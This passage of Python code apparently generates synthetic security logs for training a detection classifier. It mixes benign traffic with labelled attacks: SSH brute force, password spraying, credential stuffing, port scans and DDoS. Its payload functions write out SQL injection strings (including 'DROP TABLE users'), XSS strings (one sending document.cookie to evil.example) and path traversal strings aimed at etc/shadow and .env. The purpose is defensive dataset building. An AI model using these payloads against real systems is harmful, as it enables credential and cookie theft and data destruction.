            method, path, status, nbytes, rt = _pick_page(rng, logged)
            user = account if logged else None
            evs.append(_access_ev(int(t), ip, user, method, path, status, nbytes, referer, ua, rt, B))
            page_url = f"https://{_SITE}{path}"
            if status == 200 and method == "GET":
                for apath, amed in _assets(ctx, rng, i == 0):
                    cached = i > 0 and rng.random() < 0.5
                    ta = t + rng.uniform(15.0, 600.0)
                    if cached:
                        evs.append(_access_ev(int(ta), ip, user, "GET", apath, 304, 0, page_url, ua, _lognorm(rng, 0.002, 0.5), B))
                    else:
                        evs.append(_access_ev(int(ta), ip, user, "GET", apath, 200, int(_lognorm(rng, amed, 0.6)), page_url, ua, _lognorm(rng, 0.006, 0.7), B))
            referer = page_url
            t += _lognorm(rng, 8000.0, 0.9)
        yield t0, evs


def _crawler_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    rate = ctx.eps * _CRAWLER_SHARE / _CRAWLER_EVENTS_PER_SESSION
    for t0 in _poisson_starts(rng, ctx, rate):
        ip, ua = rng.choice(ctx.pop.crawlers)
        evs: list[RawEvent] = []
        t = t0
        if rng.random() < 0.5:
            evs.append(_access_ev(int(t), ip, None, "GET", "/robots.txt", 200, 412, None, ua, 0.001, B))
            t += rng.uniform(500, 3000)
        for _ in range(rng.randint(20, 120)):
            r = rng.random()
            if r < 0.6:
                path = f"/products/{rng.randint(1, 6000)}"
            elif r < 0.85:
                path = f"/category/{rng.choice(_CATEGORIES)}?page={rng.randint(1, 20)}"
            elif r < 0.95:
                path = f"/blog/{rng.choice(_BLOG)}"
            else:
                path = rng.choice(("/sitemap.xml", "/sitemap-products-1.xml", "/sitemap-products-2.xml"))
            status = 404 if (path.startswith("/products/") and int(path.rsplit("/", 1)[1]) >= 5000) or rng.random() < 0.01 else 200
            if status == 200 and rng.random() < 0.15:
                status = 304
            nbytes = {200: int(_lognorm(rng, 17000, 0.5)), 304: 0, 404: rng.randint(1100, 1800)}[status]
            evs.append(_access_ev(int(t), ip, None, "GET", path, status, nbytes, None, ua, _lognorm(rng, 0.05, 0.5), B))
            t += rng.uniform(400, 3000)
        yield t0, evs


def _health_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    """The monitoring host polls health/metrics endpoints many times a minute (confuser)."""
    rate = ctx.eps * _HEALTH_SHARE
    if rate <= 0:
        return
    mon = ctx.pop.monitor_ip
    checks = (
        ("/healthz", "kube-probe/1.29", 18),
        ("/readyz", "kube-probe/1.29", 18),
        ("/metrics", "Prometheus/2.53.1", 0),
        ("/api/health", "Blackbox Exporter/0.25.0", 54),
    )
    t = ctx.start_ms + rng.uniform(0, 1000.0 / rate)
    k = rng.randrange(len(checks))
    while t < ctx.end_ms:
        path, ua, size = checks[k % len(checks)]
        k += 1
        status = 200
        if path == "/api/health" and ctx.incident("checkout", t) and rng.random() < 0.5:
            status = 503
        nbytes = int(_lognorm(rng, 38000, 0.1)) if path == "/metrics" else size
        yield t, [_access_ev(int(t), mon, None, "GET", path, status, nbytes, None, ua, _lognorm(rng, 0.003, 0.4), B)]
        t += (1000.0 / rate) * rng.uniform(0.8, 1.2)


def _login_api_event(ctx: _Ctx, rng: random.Random, t: float, ip: str, user: str | None, ok: bool, label: str = B, actor: str | None = None) -> RawEvent:
    if ok:
        return _app_ev(int(t), "info", "auth-api", "login succeeded", label, actor or ip, response_time_ms=_lognorm(rng, 35, 0.5),
                       status=200, src_ip=ip, user=user, method="POST", path="/api/login")
    return _app_ev(int(t), "warning", "auth-api", "login failed: invalid credentials", label, actor or ip,
                   response_time_ms=_lognorm(rng, 40, 0.5), status=401, src_ip=ip, user=user, method="POST", path="/api/login")


def _service_call(ctx: _Ctx, rng: random.Random, t: float, ip: str, user: str | None) -> RawEvent:
    r = rng.random()
    if r < 0.28:
        svc, method, path, st, msg = "search", "GET", f"/api/v1/search?q={_search_query(rng)}", 200, "search completed"
    elif r < 0.52:
        svc, method, path, st, msg = "inventory", "GET", f"/api/v1/products/{_product_id(rng)}", 200, "product fetched"
        if rng.random() < 0.03:
            st, msg = 404, "product not found"
    elif r < 0.66:
        svc, method, path, st, msg = "cart", "POST", "/api/v1/cart/items", 201, "item added to cart"
    elif r < 0.74:
        svc, method, path, st, msg = "checkout", "POST", "/api/v1/checkout", 200, "order placed"
    elif r < 0.80:
        svc, method, path, st, msg = "payments", "POST", "/api/v1/payments/authorize", 200, "payment authorized"
        if rng.random() < 0.05:
            st, msg = 402, "payment declined"
    elif r < 0.92:
        svc, method, path, st, msg = "notifications", "GET", "/api/v1/notifications", 200, "notifications listed"
    else:
        svc, method, path, st, msg = "auth-api", "POST", "/api/token/refresh", 200, "token refreshed"
    med = _SERVICES_MEDIAN_MS[svc]
    incident = ctx.incident(svc, t)
    if rng.random() < (0.35 if incident else 0.004):
        st = rng.choice((500, 502, 503, 504))
        msg = {500: "internal server error", 502: "bad gateway from upstream", 503: "db connection pool exhausted", 504: "upstream timeout"}[st]
        rt = rng.uniform(5000, 30000) if st == 504 else _lognorm(rng, med * 3, 0.6)
        level = "error"
    else:
        rt = _lognorm(rng, med * (4.0 if incident else 1.0), 0.6)
        level = "warning" if st >= 400 else "info"
    return _app_ev(int(t), level, svc, msg, B, ip, response_time_ms=rt, status=st, src_ip=ip, user=user, method=method, path=path)


def _api_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    rate = ctx.eps * _API_SHARE / _API_EVENTS_PER_SESSION
    for t0 in _poisson_starts(rng, ctx, rate):
        ip, account, _ua = ctx.pick_web_client(rng)
        evs: list[RawEvent] = []
        t = t0
        if account is not None and rng.random() < 0.5:
            evs.append(_login_api_event(ctx, rng, t, ip, account, ok=rng.random() > 0.03))
            t += _lognorm(rng, 1500, 0.5)
        for _ in range(2 + min(int(rng.expovariate(1 / 4.5)), 20)):
            evs.append(_service_call(ctx, rng, t, ip, account))
            t += _lognorm(rng, 2500, 1.0)
        yield t0, evs


_BACKGROUND_MSGS = (
    (("info", "scheduled job completed", 1200.0), 5.0),
    (("info", "cache refreshed", 80.0), 4.0),
    (("info", "config reloaded", 15.0), 1.0),
    (("info", "kafka consumer rebalanced", 300.0), 0.7),
    (("warning", "slow query detected", 1400.0), 1.2),
    (("warning", "retrying upstream request", 250.0), 1.0),
    (("error", "connection reset by peer", 30.0), 0.15),
)


def _background_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    for t in _poisson_starts(rng, ctx, ctx.eps * _BACKGROUND_SHARE):
        svc = rng.choice(_SERVICES)
        level, msg, med = _weighted(rng, _BACKGROUND_MSGS)  # type: ignore[misc]
        if ctx.incident(svc, t) and rng.random() < 0.5:
            level, msg, med = "warning", "health check degraded", 900.0
        user = f"svc-{svc}"
        yield t, [_app_ev(int(t), level, svc, msg, B, user, response_time_ms=_lognorm(rng, med, 0.5), user=user)]


def _incident_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    """Bursts of error logs while a service is degraded (benign anomaly)."""
    scale = max(ctx.eps, 1.0) / 40.0
    for svc, s, e in ctx.plan.incidents:
        rate = rng.uniform(1.0, 3.0) * scale
        user = f"svc-{svc}"
        evs = []
        t = s + rng.expovariate(rate) * 1000.0
        while t < e:
            msg = rng.choice(("database connection refused", "upstream timeout", "circuit breaker open", "db connection pool exhausted"))
            evs.append(_app_ev(int(t), "error", svc, msg, B, user, response_time_ms=rng.uniform(2000, 30000), user=user))
            t += rng.expovariate(rate) * 1000.0
        yield s, evs


def _flow_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    pop = ctx.pop
    srv = pop.servers
    for t in _poisson_starts(rng, ctx, ctx.eps * _FLOW_SHARE):
        ts = int(t)
        r = rng.random()
        if r < 0.28:  # DNS
            if rng.random() < 0.12:
                src, dst = srv["dns-01"], rng.choice(pop.resolvers)
            else:
                src, dst = rng.choice(pop.staff).ip if rng.random() < 0.8 else rng.choice(list(srv.values())), srv["dns-01"]
            n = 1 if rng.random() < 0.9 else 2
            ev = _flow_ev(ts, src, _eph(rng), dst, 53, "udp", rng.uniform(0.3, 60), n, n,
                          n * rng.randint(58, 90), n * rng.randint(90, 480), B)
        elif r < 0.56:  # HTTPS outbound
            src = rng.choice(pop.staff).ip
            fp = max(4, int(_lognorm(rng, 18, 1.1)))
            bp = max(4, int(fp * rng.uniform(0.8, 2.5)))
            ev = _tcp_flow(rng, ts, src, rng.choice(pop.external_dsts), 443, fp, bp, fp * rng.randint(60, 260),
                           bp * rng.randint(300, 1400), _lognorm(rng, 1800, 1.3), B)
        elif r < 0.72:  # HTTPS inbound to the shop
            c = rng.choice(pop.customers).ip if rng.random() < 0.8 else pop.nat_ip
            fp = max(4, int(_lognorm(rng, 14, 0.9)))
            bp = max(4, int(fp * rng.uniform(1.0, 3.0)))
            ev = _tcp_flow(rng, ts, c, rng.choice((srv["web-01"], srv["web-02"])), 443 if rng.random() < 0.95 else 80,
                           fp, bp, fp * rng.randint(80, 300), bp * rng.randint(500, 1400), _lognorm(rng, 2500, 1.0), B)
        elif r < 0.84:  # database / ldap
            if rng.random() < 0.8:
                src, dst, port = rng.choice((srv["api-01"], srv["web-01"], srv["web-02"], srv["auth-01"])), srv["db-01"], 5432
            else:
                src, dst, port = rng.choice((srv["api-01"], srv["bastion"])), srv["auth-01"], 636
            fp = max(4, int(_lognorm(rng, 30, 1.0)))
            bp = max(4, int(fp * rng.uniform(0.8, 1.6)))
            ev = _tcp_flow(rng, ts, src, dst, port, fp, bp, fp * rng.randint(80, 400), bp * rng.randint(200, 1400),
                           _lognorm(rng, 900, 1.2), B)
        elif r < 0.92:  # intranet
            src = rng.choice(pop.staff).ip
            dst, port = rng.choice(((srv["api-01"], 8080), (srv["auth-01"], 443), (srv["web-01"], 443), (srv["backup-01"], 445)))
            fp = max(4, int(_lognorm(rng, 12, 0.9)))
            bp = max(4, int(fp * rng.uniform(1.0, 2.0)))
            ev = _tcp_flow(rng, ts, src, dst, port, fp, bp, fp * rng.randint(60, 300), bp * rng.randint(200, 1400),
                           _lognorm(rng, 700, 1.0), B)
        else:  # ntp / syslog / kafka between servers
            kind = rng.random()
            src = rng.choice(list(srv.values()))
            if kind < 0.4:
                ev = _flow_ev(ts, src, 123, rng.choice(pop.external_dsts), 123, "udp", rng.uniform(5, 40), 1, 1, 76, 76, B)
            elif kind < 0.7:
                n = rng.randint(1, 20)
                ev = _flow_ev(ts, src, _eph(rng), pop.monitor_ip, 514, "udp", 0, n, 0, n * rng.randint(120, 600), 0, B)
            else:
                fp = max(4, int(_lognorm(rng, 40, 0.8)))
                ev = _tcp_flow(rng, ts, src, srv["api-01"], 9092, fp, fp, fp * rng.randint(200, 1200), fp * 80,
                               _lognorm(rng, 5000, 0.8), B)
        yield t, [ev]


def _probe_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    """Monitoring TCP probes: short handshakes to many ports on many hosts (port-scan confuser)."""
    rate = ctx.eps * _PROBE_SHARE
    if rate <= 0:
        return
    srv = ctx.pop.servers
    targets = [
        (srv["dns-01"], 53), (srv["dns-01"], 22), (srv["bastion"], 22), (srv["web-01"], 80), (srv["web-01"], 443),
        (srv["web-01"], 22), (srv["web-02"], 80), (srv["web-02"], 443), (srv["web-02"], 22), (srv["api-01"], 8080),
        (srv["api-01"], 9092), (srv["api-01"], 22), (srv["auth-01"], 443), (srv["auth-01"], 636), (srv["auth-01"], 22),
        (srv["db-01"], 5432), (srv["db-01"], 22), (srv["db-01"], 9187), (srv["backup-01"], 22), (srv["backup-01"], 873),
        (srv["web-01"], 9100), (srv["web-02"], 9100), (srv["api-01"], 9100), (srv["db-01"], 9100),
    ]
    mon = ctx.pop.monitor_ip
    t = ctx.start_ms + rng.uniform(0, 1000.0 / rate)
    k = 0
    while t < ctx.end_ms:
        dst, port = targets[k % len(targets)]
        k += 1
        yield t, [_flow_ev(int(t), mon, _eph(rng), dst, port, "tcp", rng.uniform(0.4, 4.0), 3, 2, 172, 112, B,
                           syn=1, ack=4, fin=2, rst=0, psh=0)]
        t += (1000.0 / rate) * rng.uniform(0.7, 1.3)


def _backup_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    """Backup host: very large, long flows (volume confuser)."""
    pop = ctx.pop
    for t in _poisson_starts(rng, ctx, max(ctx.eps * _BACKUP_SHARE, 0.0)):
        total = int(_lognorm(rng, 1.5e9, 0.9))
        dur = rng.uniform(30_000, 900_000)
        if rng.random() < 0.5:  # pull from a server (rsync over ssh): data flows back
            dst, port = rng.choice([ip for name, ip in ctx.server_list if name != "backup-01"]), rng.choice((22, 873))
            bp = total // 1400
            ev = _tcp_flow(rng, int(t), pop.backup_ip, dst, port, bp // 2, bp, (bp // 2) * 52, total, dur, B, rst_p=0)
        else:  # push offsite
            fp = total // 1400
            ev = _tcp_flow(rng, int(t), pop.backup_ip, pop.offsite_ip, 443, fp, fp // 2, total, (fp // 2) * 52, dur, B, rst_p=0)
        yield t, [ev]


def _ssh_session_flow(rng: random.Random, ts: int, src: str, sport: int, dst: str, dur_ms: float, label: str) -> RawEvent:
    fp = max(12, int(dur_ms / 1000 * rng.uniform(0.5, 3.0)))
    bp = max(10, int(fp * rng.uniform(0.8, 1.4)))
    return _tcp_flow(rng, ts, src, dst, 22, fp, bp, fp * rng.randint(70, 150), bp * rng.randint(90, 400), dur_ms, label,
                     rst_p=0.01, sport=sport)


def _ssh_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    pop = ctx.pop
    srv = pop.servers
    rate = ctx.eps * _SSH_SHARE / _SSH_EVENTS_PER_SESSION
    for t0 in _poisson_starts(rng, ctx, rate):
        evs: list[RawEvent] = []
        t = t0
        pid, port = rng.randint(1200, 64000), _eph(rng)
        if rng.random() < 0.65:  # an admin
            adm = rng.choice(pop.admins)
            if rng.random() < 0.6:
                src, host = adm.ip, "bastion"
            else:
                src, host = srv["bastion"], rng.choice(("web-01", "web-02", "api-01", "db-01", "auth-01", "dns-01", "backup-01"))
            user = adm.ssh_user
            if rng.random() < 0.6:
                evs.append(_sshd_ev(int(t), host, pid, _ssh_accepted(user, src, port, "publickey"), B, src))
            else:
                r = rng.random()
                if r < 0.03:  # mistyped user name first
                    evs.append(_sshd_ev(int(t), host, pid, _ssh_failed(_typo(rng, user), False, src, port), B, src))
                    t += rng.uniform(2500, 8000)
                    pid, port = rng.randint(1200, 64000), _eph(rng)
                elif r < 0.15:  # one or two password typos
                    for _ in range(rng.randint(1, 2)):
                        evs.append(_sshd_ev(int(t), host, pid, _ssh_failed(user, True, src, port), B, src))
                        t += rng.uniform(2500, 9000)
                evs.append(_sshd_ev(int(t), host, pid, _ssh_accepted(user, src, port), B, src))
            dur = _lognorm(rng, 240_000, 1.2)
        else:  # CI deploys
            src, host = pop.ci_ip, rng.choice(("web-01", "web-02", "api-01"))
            evs.append(_sshd_ev(int(t), host, pid, _ssh_accepted("deploy", src, port, "publickey"), B, src))
            dur = rng.uniform(4000, 60000)
        evs.append(_ssh_session_flow(rng, int(t0), src, port, srv[host], dur + (t - t0), B))
        yield t0, evs


def _typo_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    """Benign users who fail one to three times before getting it right (sshd, web and API).

    Admins mistype privileged accounts too (root, admin, ubuntu): a first failed root login
    on its own is not an attack, and the classifier must see that.
    """
    pop = ctx.pop
    span = ctx.end_ms - ctx.start_ms
    episodes = []
    # About one episode a minute, at least the original four.
    kinds = [("ssh", 3), ("ssh", 3), ("web", 3), ("api", 3)] + [
        (rng.choice(("ssh", "ssh", "web", "api")), int(_weighted(rng, ((1, 0.5), (2, 0.3), (3, 0.2)))))  # type: ignore[call-overload]
        for _ in range(int(span / 60_000))
    ]
    for kind, n_fail in kinds:
        episodes.append((ctx.start_ms + rng.uniform(0, max(span - 60_000, span * 0.5)), kind, n_fail))
    episodes.sort(key=lambda e: e[0])
    for t0, kind, n_fail in episodes:
        evs: list[RawEvent] = []
        t = t0
        if kind == "ssh":
            st = rng.choice(pop.staff)
            user = st.ssh_user if rng.random() < 0.5 else rng.choice(("root", "admin", "ubuntu"))
            pid, port = rng.randint(1200, 64000), _eph(rng)
            for _ in range(n_fail):
                evs.append(_sshd_ev(int(t), "bastion", pid, _ssh_failed(user, True, st.ip, port), B, st.ip))
                t += rng.uniform(3000, 9000)
            evs.append(_ssh_session_flow(rng, int(t0), st.ip, port, pop.servers["bastion"], t - t0, B))
            pid, port = rng.randint(1200, 64000), _eph(rng)
            t += rng.uniform(5000, 30000)
            evs.append(_sshd_ev(int(t), "bastion", pid, _ssh_accepted(user, st.ip, port), B, st.ip))
        elif kind == "web":
            c = rng.choice([c for c in pop.customers if c.account is not None])
            _web_login(ctx, rng, t, c.ip, c.account or "", c.ua, None, evs, failures=n_fail)
        else:
            c = rng.choice([c for c in pop.customers if c.account is not None])
            for _ in range(n_fail):
                evs.append(_login_api_event(ctx, rng, t, c.ip, c.account, ok=False))
                t += rng.uniform(3000, 12000)
            evs.append(_login_api_event(ctx, rng, t, c.ip, c.account, ok=True))
        yield t0, evs


_BENIGN_COMPONENTS: tuple[tuple[str, Callable[[_Ctx, random.Random], Iterator[tuple[float, list[RawEvent]]]]], ...] = (
    ("web", _web_component),
    ("crawler", _crawler_component),
    ("health", _health_component),
    ("api", _api_component),
    ("background", _background_component),
    ("incidents", _incident_component),
    ("flows", _flow_component),
    ("probes", _probe_component),
    ("backup", _backup_component),
    ("ssh", _ssh_component),
    ("typos", _typo_component),
)


# --------------------------------------------------------------------------------------
# Attacks. Each returns the events of one attacker (or one ddos campaign), any order.
# --------------------------------------------------------------------------------------


def _brute_force(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    host = rng.choice(("bastion", "bastion", "bastion", "web-01", "api-01"))
    dst = ctx.pop.servers[host]
    valid = ctx.pop.valid_ssh_users
    speed = rng.uniform(0.5, 1.1) * ctx.intensity
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    while t < a.end_ms:
        pid, port, t_conn = rng.randint(1200, 64000), _eph(rng), t
        for _ in range(rng.randint(3, 6)):
            user = str(_weighted(rng, _BRUTE_USERS))
            evs.append(_sshd_ev(int(t), host, pid, _ssh_failed(user, user in valid, ip, port), lab, ip))
            t += rng.uniform(200.0, 900.0) / speed
            if t >= a.end_ms:
                break
        dur = max(0.0, min(t, a.end_ms - 1) - t_conn)
        n = 6 + int(dur / 150)
        evs.append(_flow_ev(int(t_conn), ip, port, dst, 22, "tcp", dur, n, n - 1, n * rng.randint(80, 110),
                            (n - 1) * rng.randint(90, 160), lab, syn=1, ack=2 * n - 2, fin=rng.randint(0, 2), rst=rng.randint(0, 1),
                            psh=n))
        t += rng.uniform(100.0, 1800.0) / speed
    if evs and rng.random() < 0.12:  # a rare success at the end
        t_ok = max(a.start_ms, a.end_ms - int(rng.uniform(200, 2000)))
        port = _eph(rng)
        evs.append(_sshd_ev(t_ok, host, rng.randint(1200, 64000), _ssh_accepted("root", ip, port), lab, ip))
    return evs


def _password_spraying(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    pop = ctx.pop
    mode = _weighted(rng, (("ssh", 0.4), ("api", 0.4), ("both", 0.2)))
    length_s = max(1.0, (a.end_ms - a.start_ms) / 1000.0)
    rate = max(rng.uniform(0.2, 1.0), 32.0 / length_s) * ctx.intensity
    attempts = max(1, int(rate * length_s))
    n_users = max(30, math.ceil(attempts / 1.5))
    staff = list(pop.staff)
    rng.shuffle(staff)
    generic = list(_SPRAY_GENERIC)
    rng.shuffle(generic)
    ssh_users = [s.ssh_user for s in staff[: n_users // 2]] + generic
    api_users = [s.web_user for s in staff[: n_users // 2]] + [f"{g}@{_SITE}" for g in generic]
    ssh_users = ssh_users[:n_users]
    api_users = api_users[:n_users]
    host = rng.choice(("bastion", "bastion", "web-01"))
    dst = pop.servers[host]
    order = list(range(len(ssh_users)))
    rng.shuffle(order)
    second = list(range(len(ssh_users)))
    rng.shuffle(second)
    seq = order + second  # at most two rounds: one or two attempts per user
    evs: list[RawEvent] = []
    t = a.start_ms + rng.expovariate(rate) * 1000.0
    for k in seq:
        if t >= a.end_ms:
            break
        use_ssh = mode == "ssh" or (mode == "both" and rng.random() < 0.5)
        if use_ssh:
            user = ssh_users[k]
            port = _eph(rng)
            evs.append(_sshd_ev(int(t), host, rng.randint(1200, 64000), _ssh_failed(user, user in pop.valid_ssh_users, ip, port), lab, ip))
            evs.append(_flow_ev(int(t) - rng.randint(50, 400), ip, port, dst, 22, "tcp", rng.uniform(1500, 4000), 12, 10,
                                rng.randint(1900, 2400), rng.randint(2400, 3200), lab, syn=1, ack=21, fin=2, rst=0, psh=8))
        else:
            evs.append(_login_api_event(ctx, rng, t, ip, api_users[k], ok=False, label=lab))
        t += rng.uniform(0.5, 1.5) * 1000.0 / rate
    return [e for e in evs if e.ts_ms >= a.start_ms]


def _stuffing_identity(rng: random.Random, pop: _Population) -> str:
    if rng.random() < 0.04:
        c = rng.choice(pop.customers)
        if c.account:
            return c.account
    f, l = rng.choice(_FIRST), rng.choice(_LAST)
    style = rng.random()
    if style < 0.6:
        return f"{f}.{l}{rng.randint(0, 999)}@{rng.choice(_MAIL_DOMAINS)}"
    if style < 0.8:
        return f"{f[0]}{l}{rng.randint(1, 99)}@{rng.choice(_MAIL_DOMAINS)}"
    return f"{f}{l}{rng.randint(1, 9999)}"


def _credential_stuffing(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    ua = rng.choice(_BROWSER_UAS + _TOOL_UAS)
    rate = rng.uniform(0.6, 1.8) * ctx.intensity
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    k = 0
    while t < a.end_ms:
        if k % rng.randint(15, 40) == 0:
            evs.append(_access_ev(int(t), ip, None, "GET", "/login", 200, int(_lognorm(rng, 9000, 0.2)), None, ua, _lognorm(rng, 0.02, 0.4), lab))
            t += rng.uniform(50, 300)
        user = _stuffing_identity(rng, ctx.pop)
        ok = rng.random() < 0.025
        if ok:
            evs.append(_access_ev(int(t), ip, user, "POST", "/login", 200, rng.randint(400, 700), f"https://{_SITE}/login", ua, _lognorm(rng, 0.07, 0.3), lab))
        else:
            evs.append(_access_ev(int(t), ip, user, "POST", "/login", 401, rng.randint(280, 340), f"https://{_SITE}/login", ua, _lognorm(rng, 0.06, 0.3), lab))
        k += 1
        t += rng.expovariate(rate) * 1000.0
    return evs


_TOP_PORTS = (
    80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900, 1025, 587,
    8888, 199, 1720, 465, 548, 113, 81, 6001, 10000, 514, 5060, 179, 1026, 2000, 8443, 8000, 32768, 554, 26, 1433,
    49152, 2001, 515, 8008, 49154, 1027, 5666, 646, 5000, 5631, 631, 49153, 8081, 2049, 88, 79, 5800, 106, 2121,
    1110, 49155, 6000, 513, 990, 5357, 427, 49156, 543, 544, 5101, 144, 7, 389, 8009, 3128, 444, 9999, 5009, 7070,
    5190, 3000, 5432, 1900, 3986, 13, 1029, 9, 5051, 6646, 49157, 1028, 873, 1755, 2717, 4899, 9100, 119, 37,
)


def _port_scan(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    open_ports = {"dns-01": {22, 53}, "bastion": {22}, "web-01": {22, 80, 443}, "web-02": {22, 80, 443},
                  "api-01": {22, 8080, 9092}, "auth-01": {22, 443, 636}, "db-01": {22, 5432}, "backup-01": {22, 445, 873}}
    names = rng.sample(list(ctx.pop.servers), int(_weighted(rng, ((1, 0.6), (2, 0.3), (3, 0.1)))))  # type: ignore[call-overload]
    n_ports = min(60000, int(rng.randint(100, 250) * ctx.intensity))
    ports: list[int] = list(_TOP_PORTS[: min(n_ports, len(_TOP_PORTS))])
    seen = set(ports)
    while len(ports) < n_ports:
        p = rng.randint(1, 65535)
        if p not in seen:
            seen.add(p)
            ports.append(p)
    rng.shuffle(ports)
    filtered_p = rng.uniform(0.0, 0.4)
    fixed_sport = _eph(rng) if rng.random() < 0.6 else None  # SYN scans reuse one source port
    probes = [(name, p) for p in ports for name in names]
    span = a.end_ms - a.start_ms
    times = sorted(a.start_ms + rng.random() * span for _ in probes)
    evs: list[RawEvent] = []
    for t, (name, port) in zip(times, probes):
        dst = ctx.pop.servers[name]
        sport = fixed_sport if fixed_sport is not None else _eph(rng)
        if port in open_ports[name]:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", rng.uniform(0, 4), 2, 1, 84, 44, lab, syn=1, ack=1, rst=1)
        elif rng.random() < filtered_p:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", 0, 1, 0, 44, 0, lab, syn=1)
        else:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", rng.uniform(0, 2), 1, 1, 44 if rng.random() < 0.7 else 60, 40, lab,
                          syn=1, ack=1, rst=1)
        evs.append(ev)
    return evs


def _ddos(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    lab = a.label
    srv = ctx.pop.servers
    target = rng.choice((srv["web-01"], srv["web-02"]))
    port = rng.choice((80, 443))
    kind = rng.choice(("syn_flood", "http_flood"))
    bots = a.actors
    # A flood floods: 6-12 flows/s at the target from all bots together, so the target's
    # distinct-source and flow-rate windows stand out even though each bot is quiet.
    total_rate = rng.uniform(6.0, 12.0) * ctx.intensity
    bot_rate = total_rate / len(bots)
    # Application-layer part: a handful of bots, each loud enough (0.5-1.5 req/s) to stand out
    # on its own; requests of a thin flood are individually indistinguishable from users'.
    http_bots = bots[: rng.randint(2, 5)]
    http_rate = rng.uniform(0.5, 1.5) * ctx.intensity if (kind == "http_flood" or rng.random() < 0.5) else 0.0
    span = a.end_ms - a.start_ms
    evs: list[RawEvent] = []
    for bot in bots:
        t = a.start_ms + rng.uniform(0, min(5000.0, span * 0.5))
        while t < a.end_ms:
            if kind == "syn_flood":
                fp = max(20, int(_lognorm(rng, 400, 1.0)))
                bp = rng.randint(0, 2)
                ev = _flow_ev(int(t), bot, _eph(rng), target, port, "tcp", rng.uniform(500, 10000), fp, bp,
                              fp * rng.randint(40, 60), bp * 44, lab, syn=fp, ack=bp, rst=rng.randint(0, bp))
            else:
                fp = max(10, int(_lognorm(rng, 90, 0.8)))
                bp = rng.randint(1, 8)
                ev = _flow_ev(int(t), bot, _eph(rng), target, port, "tcp", rng.uniform(300, 20000), fp, bp,
                              fp * rng.randint(250, 600), bp * rng.randint(60, 300), lab,
                              syn=1, ack=fp + bp - 1, fin=rng.randint(0, 1), rst=rng.randint(0, 1), psh=fp // 2)
            evs.append(ev)
            t += rng.expovariate(bot_rate) * 1000.0
    if http_rate > 0:
        for bot in http_bots:
            ua = rng.choice(_BROWSER_UAS + ("Go-http-client/1.1",))
            t = a.start_ms + rng.uniform(0, min(10000.0, span * 0.5))
            while t < a.end_ms:
                path = "/" if rng.random() < 0.7 else f"/?{rng.getrandbits(24):06x}"
                status = int(_weighted(rng, ((200, 0.6), (503, 0.3), (429, 0.1))))  # type: ignore[call-overload]
                nbytes = int(_lognorm(rng, 18000, 0.3)) if status == 200 else rng.randint(150, 400)
                evs.append(_access_ev(int(t), bot, None, "GET", path, status, nbytes, None, ua, rng.uniform(0.3, 8.0), lab))
                t += rng.expovariate(http_rate) * 1000.0
    return evs


def _sqli_payload(rng: random.Random) -> tuple[str, bool]:
    """(payload as it appears in the URL, time-based?)"""
    plain = (
        "'+OR+1=1--", "'+OR+'1'='1", "1+UNION+SELECT+NULL,NULL--", "1'+UNION+SELECT+username,password+FROM+users--",
        "1+AND+SLEEP(5)", "1'+AND+1=CONVERT(int,@@version)--", "';+DROP+TABLE+users;--", "1+ORDER+BY+10--",
        "admin'--", "1)+OR+(1=1", "'+AND+extractvalue(1,concat(0x7e,version()))--", "1'+WAITFOR+DELAY+'0:0:5'--",
        "1/**/UNION/**/SELECT/**/1,2,3--", "-1'+UNION+ALL+SELECT+table_name,2+FROM+information_schema.tables--",
    )
    p = rng.choice(plain)
    timed = "SLEEP" in p or "WAITFOR" in p
    r = rng.random()
    if r < 0.45:
        return p, timed
    if r < 0.85:  # fully URL-encoded, e.g. %27%20OR%20%271%27%3D%271
        return quote(p.replace("+", " "), safe=""), timed
    return p.replace("+", "%20"), timed


def _xss_payload(rng: random.Random) -> str:
    plain = (
        "<script>alert(1)</script>", "<script>alert(document.cookie)</script>", "<img+src=x+onerror=alert(1)>",
        "<svg/onload=alert(1)>", "javascript:alert(1)", "'><script>alert(1)</script>", "<body+onload=alert('xss')>",
        "<iframe+src=javascript:alert(1)>", "<details+open+ontoggle=alert(1)>", "<a+href=javascript:alert(1)>x</a>",
        "<img+src=x+onerror=fetch('//evil.example/'+document.cookie)>",
    )
    p = rng.choice(plain)
    r = rng.random()
    if r < 0.4:
        return p
    if r < 0.85:  # %3Cscript%3E...
        return quote(p.replace("+", " "), safe="")
    return "%22%3E" + quote(p.replace("+", " "), safe="")


def _traversal_payload(rng: random.Random) -> str:
    target = rng.choice(("etc/passwd", "etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "WEB-INF/web.xml", ".env", "etc/hosts"))
    depth = rng.randint(2, 8)
    style = rng.random()
    if style < 0.35:
        return "../" * depth + target
    if style < 0.6:
        return "..%2F" * depth + target.replace("/", "%2F")
    if style < 0.75:
        return "%252e%252e%252f" * depth + target.replace("/", "%252f")
    if style < 0.85:
        return "%2e%2e%2f" * depth + target
    if style < 0.93:
